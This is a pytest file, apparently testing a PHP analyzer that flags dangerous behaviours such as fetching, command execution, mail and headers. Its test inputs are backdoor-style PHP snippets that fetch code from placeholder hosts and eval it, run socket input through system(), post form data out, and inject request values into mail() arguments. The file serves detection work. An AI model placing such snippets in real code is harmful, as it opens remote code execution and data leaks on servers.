from __future__ import annotations

import pytest


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (
            (
                "$c = curl_init('http://x.example/'); curl_setopt($c, CURLOPT_URL, 'http://y.example/');"
                " eval(curl_exec($c));"
            ),
            ["FETCH curl_exec: http://y.example/", "CODE eval: <remote http://y.example/>"],
        ),
        (
            (
                "$c = curl_init(); curl_setopt_array($c, [CURLOPT_URL => 'http://z.example',"
                " CURLOPT_POSTFIELDS => $_POST]); curl_exec($c);"
            ),
            ["FETCH curl_exec: http://z.example, <request $_POST>"],
        ),
        (
            (
                "$c = curl_init('http://x.example'); curl_setopt($c, CURLOPT_WRITEFUNCTION,"
                " function ($h, $s) { eval($s); }); curl_exec($c);"
            ),
            ["FETCH curl_exec: http://x.example", "CODE eval: <remote http://x.example>"],
        ),
        (
            "$f = fsockopen('h.example', 80); system(fgets($f));",
            ["FETCH fsockopen: h.example, 80", "COMMAND system: <remote h.example>"],
        ),
        (
            "eval(wp_remote_retrieve_body(wp_remote_get('http://w.example')));",
            ["FETCH wp_remote_get: http://w.example", "CODE eval: <remote http://w.example>"],
        ),
        ("eval(get_option('x'));", ["CODE eval: <stored the database (x)>"]),
        ("$r = mysqli_fetch_assoc($q); eval($r['c']);", ["CODE eval: <stored the database>"]),
        ("$h = getallheaders(); eval($h['X']);", ["CODE eval: <request getallheaders()>"]),
        (
            "mail('a@b.example', 's', 'b', 'h', '-f ' . $_GET['x']);",
            [
                "MAIL mail: a@b.example, s, b, h, -f  . <request $_GET['x']>",
                "COMMAND mail: -f  . <request $_GET['x']>",
            ],
        ),
        ("mail($_POST['t'], 's', 'b');", ["MAIL mail: <request $_POST['t']>, s, b"]),
        (
            "header('Location: http://x.example');",
            ["SEND_HEADER header: Location: http://x.example"],
        ),
    ],
)
def test_acts(acts, code, expected):
    assert acts(code) == expected
